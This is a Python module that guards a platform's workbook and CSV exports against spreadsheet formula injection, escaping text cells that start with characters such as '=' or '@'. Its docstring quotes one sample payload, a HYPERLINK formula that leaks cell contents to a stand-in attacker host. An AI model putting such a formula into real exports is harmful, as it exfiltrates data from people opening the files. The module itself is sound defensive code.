"""Cells of every export (workbooks, CSV files) written so a spreadsheet never runs them.

A text a person typed — a report, a plan section, a unit's or a person's name — may begin
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, and a spreadsheet opening the
file would take it for a formula (``=HYPERLINK("http://evil.example/?leak="&A1, …)``).
As OWASP recommends for CSV injection:

- in a workbook (``workbook_bytes``) every text cell is stored as text, never as a formula,
  and one that starts with such a character carries Excel's own "quote prefix" mark, so it
  stays text when someone edits the cell — the value itself is kept exactly;
- in a CSV file (``csv_cell``) such a text gets a leading apostrophe ``'`` and the csv
  module quotes what needs quoting.

Numbers stay numbers: an int or float cell is written as a number, and a text that is
just a number (``-12``, ``+3,5``) is no formula and is left alone. No writer of the
platform means to write a formula.
"""

from __future__ import annotations

import io
import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")

__all__ = ["FORMULA_STARTS", "csv_cell", "csv_row", "is_formula_like", "workbook_bytes"]


def is_formula_like(value: object) -> bool:
    """A text a spreadsheet would read as a formula (or a DDE call)."""
    return (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not _PLAIN_NUMBER.fullmatch(value))


def csv_cell(value: Any) -> Any:
    """The value as a CSV file may carry it: a formula-like text gets a leading ``'``."""
    return "'" + str(value) if is_formula_like(value) else value


def csv_row(values: list[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def neutralize_workbook(book: Workbook) -> None:
    """Every cell of every sheet that holds text is text (no formula), quote-prefixed
    where it looks like one."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"   # openpyxl takes a text starting "=" for a formula
                    if is_formula_like(cell.value):
                        cell.quotePrefix = True


def workbook_bytes(book: Workbook) -> bytes:
    """The workbook saved as .xlsx, after ``neutralize_workbook``: how every export saves."""
    neutralize_workbook(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
